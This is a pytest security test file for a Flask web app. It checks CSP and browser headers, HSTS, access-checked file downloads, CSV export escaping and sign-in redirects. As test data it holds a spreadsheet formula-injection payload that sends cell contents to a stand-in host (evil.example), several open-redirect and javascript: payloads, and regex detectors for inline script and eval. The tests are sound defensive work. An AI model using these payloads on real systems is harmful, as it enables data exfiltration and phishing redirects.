"""Headers and output: a strict Content-Security-Policy with no inline script anywhere, the browser
protections on every answer, files served only as attachments after an access check, CSV cells that
never start a formula."""

from __future__ import annotations

import re
import secrets
from pathlib import Path

import pytest

from config import Config
from workflow import create_app
from workflow.accounts.models import Role
from workflow.actions.lifecycle import ActionStatus
from workflow.core.security import CONTENT_SECURITY_POLICY, HEADERS
from workflow.extensions import db as database

from ..factories import make_action, make_expert, make_user
from .security_world import PDF

TEMPLATES = Path(__file__).resolve().parents[2] / "templates"
STATIC_JS = Path(__file__).resolve().parents[2] / "static" / "js"


def security_header_problems(response) -> list[str]:
    """What is missing or wrong in the security headers of one answer (an empty list when all is well)."""
    expected = {"Content-Security-Policy": CONTENT_SECURITY_POLICY, **HEADERS}
    return [f"header {name} is {response.headers.get(name)!r}"
            for name, value in expected.items() if response.headers.get(name) != value]


# --- The policy --------------------------------------------------------------------------------------


def test_the_policy_allows_nothing_inline_and_no_other_site():
    directives = dict(part.split(" ", 1) for part in CONTENT_SECURITY_POLICY.split("; "))
    assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'"
    assert directives["default-src"] == "'self'" and directives["object-src"] == "'none'"
    assert directives["frame-ancestors"] == "'none'" and directives["base-uri"] == "'self'"
    assert directives["form-action"] == "'self'" and directives["img-src"] == "'self' data:"
    assert "unsafe" not in CONTENT_SECURITY_POLICY and "http" not in CONTENT_SECURITY_POLICY


@pytest.mark.parametrize("url", ["/", "/login", "/catalogue/", "/catalogue/map", "/static/peerflow.css",
                                 "/static/js/confirm.js", "/nowhere", "/api/v1/openapi.json", "/api/v1/actions",
                                 "/healthz"])
def test_every_answer_carries_the_headers(client, url):
    response = client.get(url)
    assert not security_header_problems(response), (url, response.status_code, security_header_problems(response))


def test_pages_of_a_signed_in_user_carry_the_headers(client, login_as, officer):
    login_as(officer)
    for url in ["/home", "/actions/", "/account", "/deployments/", "/exports/actions.csv"]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert not security_header_problems(response), (url, security_header_problems(response))


def test_the_api_docs_page_starts_swagger_from_a_file_not_inline(client):
    response = client.get("/api/v1/docs")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    assert "/static/js/swagger-init.js" in html and 'data-spec-url="/api/v1/openapi.json"' in html
    assert not INLINE_SCRIPT.search(html)


def _app(database_url: str, upload_dir: Path, **settings):
    """An app of another environment (TESTING keeps its logging with pytest's, as for the other apps)."""
    return create_app(Config(TESTING=True, DATABASE_URL=database_url, UPLOAD_DIR=str(upload_dir),
                             SECRET_KEY=secrets.token_hex(32), PEERFLOW_BASE_URL="https://peerflow.example.org",
                             **settings))


@pytest.mark.parametrize(("settings", "expected"), [
    ({"ENV_NAME": "development"}, None),
    ({"ENV_NAME": "production"}, "max-age=31536000; includeSubDomains"),
    ({"ENV_NAME": "production", "HSTS_SECONDS": 0}, None),  # the proxy in front sends its own
    ({"ENV_NAME": "development", "HSTS_SECONDS": 600}, "max-age=600; includeSubDomains"),
])
def test_hsts_is_sent_in_production_only_unless_configured(database_url, upload_dir, settings, expected):
    other = _app(database_url, upload_dir, **settings)
    try:
        assert other.test_client().get("/healthz").headers.get("Strict-Transport-Security") == expected
    finally:
        database.engine_of(other).dispose()


def test_the_tests_own_app_sends_no_hsts(client):
    assert "Strict-Transport-Security" not in client.get("/healthz").headers


def test_hsts_seconds_come_from_the_environment(monkeypatch):
    monkeypatch.setenv("HSTS_SECONDS", "600")
    assert Config().HSTS_SECONDS == 600
    monkeypatch.setenv("HSTS_SECONDS", "a year")
    with pytest.raises(RuntimeError, match="HSTS_SECONDS"):
        Config()


# --- No inline script, handler or style in any template ------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script\b(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE)
EVENT_HANDLER = re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.IGNORECASE | re.DOTALL)
STYLE_ATTRIBUTE = re.compile(r"<[a-z][^>]*\sstyle\s*=", re.IGNORECASE | re.DOTALL)
JAVASCRIPT_URL = re.compile(r"javascript:", re.IGNORECASE)


def page_templates() -> list[Path]:
    """Every template a browser renders (e-mails are read by mail programs, which need inline styles)."""
    return sorted(p for p in TEMPLATES.rglob("*.html") if "emails" not in p.relative_to(TEMPLATES).parts)


@pytest.mark.parametrize("pattern", [INLINE_SCRIPT, EVENT_HANDLER, STYLE_ATTRIBUTE, JAVASCRIPT_URL],
                         ids=["inline script", "on*= handler", "style attribute", "javascript: URL"])
def test_no_template_has_inline_code_or_style(pattern):
    found = []
    for path in page_templates():
        text = path.read_text(encoding="utf-8")
        for match in pattern.finditer(text):
            line = text.count("\n", 0, match.start()) + 1
            found.append(f"{path.relative_to(TEMPLATES)}:{line}: {match.group(0)[:80]!r}")
    assert not found, ("the Content-Security-Policy would block these (use a static/js file and data-* "
                       "attributes; data-confirm for confirmations; a class in peerflow.css):\n" + "\n".join(found))


def test_the_scripts_evaluate_no_strings():
    for path in STATIC_JS.glob("*.js"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"\beval\s*\(|new Function\s*\(|setTimeout\s*\(\s*[\"']", text), path.name


def test_a_destructive_button_asks_through_data_attributes_and_static_scripts(client, login_as, db, officer, peru):
    action = make_action(db, officer, status=ActionStatus.IMPLEMENTATION, beneficiary=peru)
    login_as(officer)
    html = client.get(f"/actions/{action.id}").get_data(as_text=True)
    # Cancelling the Action asks in its own dialog (a reason to give), opened by static/js/steps.js.
    assert 'data-step-open="step-cancel"' in html and f"Cancel {action.name}?" in html
    assert "/static/js/steps.js" in html and "/static/js/confirm.js" in html and "onclick" not in html
    assert "data-step-open" in (Path(STATIC_JS / "steps.js").read_text())
    assert "data-confirm" in (Path(STATIC_JS / "confirm.js").read_text())


# --- Uploaded files ----------------------------------------------------------------------------------


def test_a_deliverable_is_served_as_an_attachment_to_those_who_see_its_action(app, client, login_as, matrix_world,
                                                                             requester_pe, requester_bo):
    deliverable = matrix_world.objects["deliverable"]
    assert re.fullmatch(r"[0-9a-f]{32}\.pdf", deliverable.stored_name)  # a generated name, never the reader's
    assert (Path(app.config["UPLOAD_DIR"]) / deliverable.stored_name).read_bytes() == PDF
    login_as(requester_pe)
    response = client.get(f"/deliverables/{deliverable.id}/file")
    assert response.status_code == 200 and response.data == PDF
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert "handbook.pdf" in response.headers["Content-Disposition"]
    assert response.headers["Content-Type"] == "application/pdf"
    assert not security_header_problems(response)
    login_as(requester_bo)
    assert client.get(f"/deliverables/{deliverable.id}/file").status_code == 404


def test_a_cv_is_served_as_an_attachment_to_the_expert_their_focal_point_and_staff(client, login_as, matrix_world):
    world = matrix_world
    expert = world.objects["expert_x"]
    for role in ("expert", "focal", "officer"):
        login_as(world.users[role])
        response = client.get(f"/experts/{expert.id}/cv")
        assert response.status_code == 200, role
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    for role in ("expert_b", "focal_b", "req_a"):
        login_as(world.users[role])
        assert client.get(f"/experts/{expert.id}/cv").status_code == 404, role


def test_an_expert_without_a_cv_has_nothing_to_download(db, client, login_as, officer):
    expert = make_expert(db, user=make_user(db, Role.EXPERT))
    login_as(officer)
    assert client.get(f"/experts/{expert.id}/cv").status_code == 404


# --- CSV exports -------------------------------------------------------------------------------------


def test_an_exported_title_never_becomes_a_formula(db, client, login_as, officer, peru):
    action = make_action(db, officer, beneficiary=peru)
    action.title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    db.commit()
    login_as(officer)
    response = client.get("/exports/actions.csv")
    text = response.get_data(as_text=True)
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    assert "'=HYPERLINK(" in text
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.MULTILINE)


# --- Redirects stay on this site ----------------------------------------------------------------------


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "\\\\evil.example",
                                    "/\t/evil.example/", "/\n/evil.example/", "/\r/evil.example/", " /x",
                                    "javascript:alert(1)", "http:/evil.example"])
def test_sign_in_never_sends_the_reader_to_another_site(client, requester_pe, target):
    from ..factories import PASSWORD
    from .conftest import csrf_token

    response = client.post("/login", query_string={"next": target},
                           data={"csrf_token": csrf_token(client), "email": requester_pe.email, "password": PASSWORD})
    assert response.status_code == 302 and response.headers["Location"] == "/home", response.headers["Location"]


def test_sign_in_returns_to_the_page_asked_for(client, requester_pe):
    from ..factories import PASSWORD
    from .conftest import csrf_token

    response = client.post("/login", query_string={"next": "/actions/?status=closed"},
                           data={"csrf_token": csrf_token(client), "email": requester_pe.email, "password": PASSWORD})
    assert response.headers["Location"] == "/actions/?status=closed"
